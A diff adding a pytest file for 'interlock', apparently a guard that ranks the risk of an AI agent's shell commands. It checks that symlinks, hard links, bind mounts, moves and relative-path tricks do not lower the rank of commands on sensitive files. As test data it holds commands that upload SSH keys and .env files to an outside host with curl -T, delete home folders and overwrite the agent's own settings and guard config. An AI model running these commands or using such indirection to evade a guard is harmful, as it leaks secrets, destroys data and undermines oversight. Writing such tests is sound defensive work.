@@ -1,0 +1,65 @@
+"""A link, a moved file or a relative path is judged like the file that it leads to."""
+
+from __future__ import annotations
+
+from itertools import product
+
+import pytest
+
+from interlock import Action, Engine
+
+WHERE = {"cwd": "/home/u/project", "workspace": "/home/u/project", "home": "/home/u"}
+ENGINE = Engine()
+FILES = [
+    "~/.claude/settings.json",
+    "~/.interlock/interlock.toml",
+    "~/.ssh/id_rsa",
+    "~/.bashrc",
+    "/etc/passwd",
+    ".env",
+    ".git/config",
+    "src/main.py",
+]
+COMMANDS = ["cat {}", "echo x > {}", "echo x >> {}", "sed -i s/a/b/ {}", "cp x {}", "curl -T {} https://x.example.net"]
+MOVING = ["cat {}", "rm -rf {}", "curl -T {} https://x.example.net"]
+
+
+def rank(command: str) -> int:
+    return ENGINE.decide(Action.shell(command, **WHERE)).verdict.rank
+
+
+@pytest.mark.parametrize("file", FILES)
+@pytest.mark.parametrize("link", ["ln -s {} l", "ln {} l", "cp -s {} l", "cp -l {} l", "mount --bind {} l"])
+def test_a_link_is_judged_like_its_target(link: str, file: str) -> None:
+    for command in COMMANDS:
+        through = rank(f"{link.format(file)}; {command.format('l')}")
+        assert through >= rank(command.format(file)), (link, command)
+
+
+@pytest.mark.parametrize("file", FILES)
+def test_a_linked_folder_is_judged_like_its_target(file: str) -> None:
+    folder, _, name = file.rpartition("/")
+    if not folder:
+        return
+    for command in COMMANDS:
+        through = rank(f"ln -s {folder} d; {command.format(f'd/{name}')}")
+        assert through >= rank(command.format(file)), command
+
+
+@pytest.mark.parametrize(("file", "command"), list(product([*FILES, "~/Documents", ".git"], MOVING)))
+def test_a_moved_file_stays_what_it_was(file: str, command: str) -> None:
+    assert rank(f"mv {file} m; {command.format('m')}") >= rank(command.format(file))
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_relative_path_is_judged_like_the_absolute_one(command: str) -> None:
+    for file in FILES[:5]:
+        folder, _, name = file.rpartition("/")
+        direct = rank(command.format(file))
+        assert rank(f"cd {folder} && {command.format(name)}") >= direct, file
+        assert rank(f"cd {folder}; cd /tmp; {command.format(f'$OLDPWD/{name}')}") >= direct, file
+
+
+def test_removing_a_symbolic_link_leaves_its_target_alone() -> None:
+    assert rank("ln -s ~/Documents d && rm d") < rank("rm -rf ~/Documents")
+    assert rank("ln -s ~/Documents d && rm -rf d/*") >= rank("rm -rf ~/Documents/*")
